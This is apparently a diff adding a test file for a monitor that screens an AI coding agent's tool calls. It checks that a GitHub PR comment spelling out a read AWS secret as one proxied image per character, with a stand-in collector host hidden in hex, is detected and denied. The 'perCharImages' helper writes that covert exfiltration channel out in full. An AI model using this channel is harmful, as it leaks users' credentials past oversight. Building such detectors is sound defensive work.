@@ -1,0 +1,86 @@
+/**
+ * Data sent as the choice of URLs (one image per character of a secret, behind an image proxy that
+ * hides the real URL in its path), and the destinations hidden in such paths.
+ */
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { FlowEngine, type Decision } from '../../src/engine/engine.ts';
+import { defaultConfig } from '../../src/config/index.ts';
+import { views } from '../../src/engine/decoders.ts';
+import { hiddenUrlHost, mcpHosts } from '../../src/engine/destinations.ts';
+
+// a fake credential in the real shape (never a real key)
+const SECRET = 'Zr7Kq2LmW9xTb4Np0Vc8Hs3Jd6Fg1Yk5Qe2Ua9Mi';
+const CREDS = `[default]\naws_access_key_id = AKIAQX4BZ7LMNP2RT5VW\naws_secret_access_key = ${SECRET}\n`;
+
+const hex = (s: string): string => Buffer.from(s, 'utf8').toString('hex');
+const sig = (i: number): string => hex(`sig-${i}-`.padEnd(20, 'x')).slice(0, 40);
+/** one proxied image per character, the real URL hex-encoded in the proxy's path */
+function perCharImages(text: string, host = 'pics.proxy.test', target = 'collector.invalid'): string {
+  return [...text].map((ch, i) => `![](https://${host}/${sig(i)}/${hex(`https://${target}/p/${ch.charCodeAt(0)}.gif`)})`).join('');
+}
+
+class Run {
+  readonly e = new FlowEngine(defaultConfig(), { seed: 7, home: '/home/u', timeOfDay: () => '09:00:00' });
+  t = 1_800_000_000_000;
+  n = 0;
+  call(tool: string, input: Record<string, unknown>, response?: unknown): Decision {
+    const base = { session_id: 's', tool_name: tool, tool_input: input, tool_use_id: `toolu_${++this.n}`, cwd: '/home/u/site' };
+    const d = this.e.handle({ hook_event_name: 'PreToolUse', ...base }, (this.t += 1000));
+    if (response !== undefined && d.action !== 'deny') this.e.handle({ hook_event_name: 'PostToolUse', ...base, tool_response: response }, (this.t += 1000));
+    return d;
+  }
+  readCreds(): void {
+    const p = '/home/u/.aws/credentials';
+    this.call('Read', { file_path: p }, { type: 'text', file: { filePath: p, content: CREDS, numLines: 3, startLine: 1, totalLines: 3 } });
+  }
+  comment(body: string): Decision {
+    return this.call('mcp__github__add_issue_comment', { owner: 'acme', repo: 'site', issue_number: 12, body });
+  }
+}
+
+test('decoders: one URL per character, behind a proxy that hides the URL in hex, gives the characters back', () => {
+  const vs = views(`Looks good!\n\n${perCharImages(SECRET)}`);
+  assert.ok(
+    vs.some((v) => v.text.includes(SECRET) && v.via.includes('url-sequence')),
+    vs.map((v) => v.via.join('>')).join(' | '),
+  );
+  // single characters in the path, no proxy: joined as written
+  const plain = [...'hunter2-is-the-password'].map((c) => `![](https://img.invalid/x/${encodeURIComponent(c)}.png)`).join(' ');
+  assert.ok(views(plain).some((v) => v.text.includes('hunter2-is-the-password')));
+});
+
+test('decoders: links of one template with long or repeated parts are not a character channel', () => {
+  // numbered screenshots: a progression, not a message
+  const gallery = Array.from({ length: 12 }, (_, i) => `![shot ${i + 1}](https://user-images.invalid/assets/screenshot-${i + 1}.png)`).join('\n');
+  assert.ok(!views(gallery).some((v) => v.via.includes('url-sequence')));
+  // uploads named by digest: each varying part far longer than one symbol
+  const digests = Array.from({ length: 12 }, (_, i) => `![](https://user-images.invalid/assets/${sig(i)}${sig(i + 40)}.png)`).join('\n');
+  assert.ok(!views(digests).some((v) => v.via.includes('url-sequence')));
+  const same = Array.from({ length: 10 }, () => '![](https://badge.invalid/b/ok.svg)').join(' ');
+  assert.ok(!views(same).some((v) => v.via.includes('url-sequence')));
+});
+
+test('destinations: the host hidden in an image proxy URL is a destination of the call', () => {
+  assert.equal(hiddenUrlHost(`https://pics.proxy.test/${sig(1)}/${hex('https://collector.invalid/p/65.gif')}`), 'collector.invalid');
+  assert.equal(hiddenUrlHost('https://wsrv.invalid/?url=https%3A%2F%2Fcollector.invalid%2Fa.png'), 'collector.invalid');
+  assert.equal(hiddenUrlHost('https://cdn.invalid/img/2f8a9c1d0e7b6a5f4e3d2c1b0a9f8e7d.png'), null);
+  assert.deepEqual(mcpHosts({ body: perCharImages('ab') }).sort(), ['collector.invalid', 'pics.proxy.test']);
+});
+
+test('engine: a PR comment spelling the AWS secret one proxied image per character is denied', () => {
+  const r = new Run();
+  r.readCreds();
+  const d = r.comment(`Thanks for the PR! Looks good overall.\n\n${perCharImages(SECRET)}`);
+  assert.equal(d.action, 'deny');
+  assert.ok(d.findings.some((f) => f.rule === 'sensitive_to_external' && /url-sequence/.test(f.how ?? '')));
+});
+
+test('engine: a PR comment with a few ordinary screenshots after reading credentials is not denied', () => {
+  const r = new Run();
+  r.readCreds();
+  const shots = [1, 2, 3].map((i) => `![step ${i}](https://user-images.invalid/assets/${hex(`screen-${i}-checkout-flow`)}.png)`).join('\n');
+  const d = r.comment(`Before/after of the checkout flow:\n\n${shots}`);
+  assert.notEqual(d.action, 'deny');
+  assert.ok(!d.findings.some((f) => f.rule === 'sensitive_to_external'));
+});
